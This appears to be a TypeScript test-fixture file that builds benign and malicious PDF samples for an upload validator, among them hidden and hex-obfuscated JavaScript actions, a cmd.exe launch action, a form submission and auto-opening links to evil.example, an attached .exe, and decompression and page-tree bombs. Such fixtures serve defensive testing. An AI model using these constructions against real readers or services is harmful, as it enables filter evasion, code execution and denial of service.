import { constants, deflateRawSync, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';

/** Returns a one-page document written by hand; `catalog` and `objects` add what a test is about. */
export function handWritten({ catalog = '', objects = '', page = '' } = {}): Buffer {
  return Buffer.from(
    '%PDF-1.4\n' +
      `1 0 obj<</Type/Catalog/Pages 2 0 R ${catalog}>>endobj\n` +
      '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
      `3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200] ${page}>>endobj\n` +
      `${objects}\ntrailer<</Size 9/Root 1 0 R>>\n%%EOF\n`,
    'latin1',
  );
}

async function aDocument(
  change?: (document: PDFDocument) => unknown,
  useObjectStreams = true,
): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage([300, 200]).drawText('Payment 402 800 CNY');
  await change?.(document);
  return Buffer.from(await document.save({ useObjectStreams }));
}

const withScript = (document: PDFDocument): void => document.addJavaScript('open', 'app.alert(1)');

/** Returns an encrypted document; with an empty password of the reader, it only restricts what they may do. */
const encrypted =
  (userPassword: string, useObjectStreams: boolean, change?: (document: PDFDocument) => void) =>
  (): Promise<Buffer> =>
    aDocument((document) => {
      change?.(document);
      document.encrypt({ userPassword, ownerPassword: 'owner', permissions: { printing: 'lowResolution' } });
    }, useObjectStreams);

/** Returns a stream with what it says of itself and its packed content. */
export function streamOf(number: number, dict: string, content: Buffer): string {
  const head = `${number} 0 obj<<${dict}/Length ${content.length}>>stream\n`;
  return `${head}${content.toString('latin1')}\nendstream endobj\n`;
}

/** Returns an object stream that holds one object. */
export function objectStream(object: string, { type = '/Type/ObjStm', filters = 1 } = {}): string {
  let content = Buffer.from(`9 0 ${object}`, 'latin1');
  for (let n = 0; n < filters; n++) content = deflateSync(content);
  const names = '/FlateDecode'.repeat(filters);
  return streamOf(4, `${type}/N 1/First 4/Filter[${names}]`, content);
}

/** Returns packed zeros, made of one packed megabyte that is repeated. */
function zeros(megabytes: number): Buffer {
  const megabyte = deflateRawSync(Buffer.alloc(1_048_576), { finishFlush: constants.Z_FULL_FLUSH });
  return Buffer.concat([
    Buffer.from('789c', 'hex'),
    ...Array<Buffer>(megabytes).fill(megabyte),
    Buffer.from('0300', 'hex'),
  ]);
}
const SCRIPT = '<</S/JavaScript/JS(app.alert)>>';
const ADDRESS = '<</S/URI/URI(https://evil.example)>>';

/** Returns a document whose only page stands many times in its tree, or whose tree is many levels deep. */
const pageTree = (kids: string, count: number, nodes = ''): Buffer =>
  Buffer.from(
    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n' +
      `2 0 obj<</Type/Pages/Kids[${kids}]/Count ${count}>>endobj\n` +
      `3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]>>endobj\n${nodes}` +
      'trailer<</Root 1 0 R>>\n%%EOF\n',
    'latin1',
  );

/** Returns levels of ten nodes each, all of which lead to the next level: ten billion pages in a kilobyte. */
const growingTree = (): Buffer => {
  const levels = Array.from({ length: 10 }, (_, n) => {
    const next = n === 9 ? '3 0 R ' : `${n + 11} 0 R `;
    return `${n + 10} 0 obj<</Type/Pages/Kids[${next.repeat(10)}]/Count 1>>endobj\n`;
  });
  return pageTree('10 0 R', 1, levels.join(''));
};

/** Returns an object stream of a few hundred kilobytes that unpacks to `megabytes`. */
function bomb(megabytes: number): Buffer {
  const packed = deflateSync(Buffer.alloc(megabytes * 1_048_576, ' '), { level: 9 });
  const head = `4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`;
  const objects = Buffer.concat([Buffer.from(head), packed, Buffer.from('\nendstream endobj')]);
  return handWritten({ objects: objects.toString('latin1') });
}

/** A page tree that contains itself. */
const circle = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n' +
    'trailer<</Size 3/Root 1 0 R>>\n%%EOF\n',
);

type Files = Readonly<Record<string, () => Buffer | Promise<Buffer>>>;

export const goodPdfs: Files = {
  'written by a library, packed': () => aDocument(),
  'written by a library, unpacked': () => aDocument(undefined, false),
  'written by hand, without a table': () => handWritten(),
  'with a link and a title': () => aDocument((document) => document.setTitle('Платёжное поручение № 1')),
  'that opens at a page': () => handWritten({ catalog: '/OpenAction[3 0 R/Fit]' }),
  'with a link to a site': () =>
    handWritten({
      page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://bank.example)>>>>]',
    }),
  'saved twice': async () =>
    Buffer.concat([await aDocument(undefined, false), handWritten().subarray('%PDF-1.4\n'.length)]),
  'with restrictions but no password': encrypted('', false),
  'with restrictions but no password, packed': encrypted('', true),
  'that begins with a line break': () => Buffer.concat([Buffer.from('\r\n'), handWritten()]),
  'that begins with a byte order mark': async () => Buffer.concat([Buffer.from('\ufeff'), await aDocument()]),
  'that begins with 1,024 other bytes': async () =>
    Buffer.concat([Buffer.alloc(1_024, 'HTTP/1.1 200 OK\r\n'), await aDocument()]),
  'with a link on a page that opens at once': () =>
    handWritten({
      catalog: '/OpenAction[3 0 R/Fit]',
      page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A ${ADDRESS}>>]`,
    }),
  'that prints itself': () => handWritten({ catalog: '/OpenAction<</S/Named/N/Print>>' }),
  'with a large scan': () =>
    handWritten({
      objects: streamOf(
        4,
        '/Type/XObject/Subtype/Image/Width 7000/Height 4000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode',
        zeros(84),
      ),
    }),
  'of 2,000 pages': () => pageTree('3 0 R '.repeat(2_000), 2_000),
  'with blanks behind it': () => Buffer.concat([handWritten(), Buffer.from('\r\n\0\0\n')]),
};

/** Documents by the name of the error that they are refused with. */
export const badPdfs: Readonly<
  Record<
    'pdfUnreadable' | 'pdfActive' | 'pdfLocked' | 'pdfTooManyPages' | 'pdfUnpacksTooLarge' | 'tooComplex',
    Files
  >
> = {
  pdfUnreadable: {
    'a script behind the first line': () => Buffer.from('%PDF-1.4\n<script>alert(1)</script>'),
    'a script between the first line and the last': () =>
      Buffer.from('%PDF-1.4\n<script>alert(1)</script>\n%%EOF'),
    'nothing but the first bytes': () => Buffer.from('%PDF-'),
    'a catalogue without pages': () =>
      Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF'),
    'a page tree without leaves': () =>
      Buffer.from(
        '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n' +
          'trailer<</Root 1 0 R>>\n%%EOF',
      ),
    'a page tree that contains itself': () => circle,
    'the first half': async () => {
      const whole = await aDocument();
      return whole.subarray(0, whole.length / 2);
    },
    'all but the end': () => handWritten().subarray(0, -8),
    'an archive behind the end': () =>
      Buffer.concat([handWritten(), Buffer.from('PK\x03\x04' + 'x'.repeat(100))]),
    'an object inside of a stream': () =>
      handWritten({ objects: streamOf(4, '', Buffer.from(`\n${objectStream(SCRIPT)}`, 'latin1')) }),
    'lists in lists': () =>
      handWritten({ objects: `4 0 obj${'['.repeat(50_000)}${']'.repeat(50_000)}endobj` }),
    'a page behind the end': () => Buffer.concat([handWritten(), Buffer.from('<script>alert(1)</script>')]),
  },
  pdfActive: {
    'a script, packed': () => aDocument(withScript),
    'a script, unpacked': () => aDocument(withScript, false),
    'a script when it is opened': () =>
      handWritten({ catalog: '/OpenAction<</S/JavaScript/JS(app.alert)>>' }),
    'a script whose name is spelled in hexadecimal': () =>
      handWritten({ catalog: '/OpenAction<</S/#4Aava#53cript/#4AS(app.alert)>>' }),
    'a script in an older definition of an object': () =>
      handWritten({
        objects: '4 0 obj<</S/#4Aava#53cript/#4AS(app.alert)>>endobj\n4 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj',
      }),
    'a script in a comment': () => handWritten({ objects: '% 4 0 obj<</S/JavaScript>>endobj' }),
    'a program that is started': () => handWritten({ catalog: '/OpenAction<</S/Launch/F(cmd.exe)>>' }),
    'a form that is sent': () =>
      handWritten({ catalog: '/OpenAction<</S/SubmitForm/F(https://evil.example)>>' }),
    'an attached file': () =>
      aDocument((document) => document.attach(Buffer.from('MZ'), 'invoice.exe', { mimeType: 'text/plain' })),
    'a form with scripts': () => handWritten({ catalog: '/AcroForm<</Fields[]/XFA(x)>>' }),
    'a script behind restrictions': encrypted('', false, withScript),
    'a script behind restrictions, packed': encrypted('', true, withScript),
    'an address that opens itself': () => handWritten({ catalog: `/OpenAction ${ADDRESS}` }),
    'an address that opens itself, elsewhere': () =>
      handWritten({ catalog: '/OpenAction 4 0 R', objects: `4 0 obj${ADDRESS}endobj` }),
    'an address that opens after a jump': () =>
      handWritten({ catalog: `/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[${ADDRESS}]>>` }),
    'an address that opens with a page': () => handWritten({ page: `/AA<</O ${ADDRESS}>>` }),
    'a script in an object stream': () => handWritten({ objects: objectStream(SCRIPT) }),
    'a script in an object stream packed twice': () =>
      handWritten({ objects: objectStream(SCRIPT, { filters: 2 }) }),
    'a script in an object stream that does not say so': () =>
      handWritten({ objects: objectStream(SCRIPT, { type: '' }) }),
    'a script behind the first end': () =>
      Buffer.concat([handWritten(), Buffer.from(`4 0 obj${SCRIPT}endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`)]),
    'a script between two objects, spelled as codes': () =>
      handWritten({ objects: '((\n<</S/Java#53cript/J#53(app.alert)>>' }),
    'a script that runs on a page': () =>
      aDocument((document) => {
        const action = document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
        document.getPage(0).node.set(PDFName.of('AA'), document.context.obj({ O: action }));
      }),
  },
  pdfLocked: { 'a password': encrypted('secret', false), 'a password, packed': encrypted('secret', true) },
  pdfTooManyPages: {
    '200,000 pages': () => pageTree('3 0 R '.repeat(200_000), 200_000),
    '200,000 pages that say they are one': () => pageTree('3 0 R '.repeat(200_000), 1),
    'ten billion pages': growingTree,
  },
  pdfUnpacksTooLarge: {
    '500 MB behind the text of a page': () =>
      handWritten({ page: '/Contents 4 0 R', objects: streamOf(4, '/Filter/FlateDecode', zeros(500)) }),
    '500 MB behind a small picture': () =>
      handWritten({
        objects: streamOf(4, '/Subtype/Image/Width 9/Height 9/Filter[/FlateDecode]', zeros(500)),
      }),
    '500 MB packed twice': () =>
      handWritten({
        objects: streamOf(4, '/Filter[/FlateDecode/FlateDecode]', deflateSync(zeros(500), { level: 9 })),
      }),
  },
  tooComplex: { 'an object that unpacks to 600 MB': () => bomb(600) },
};
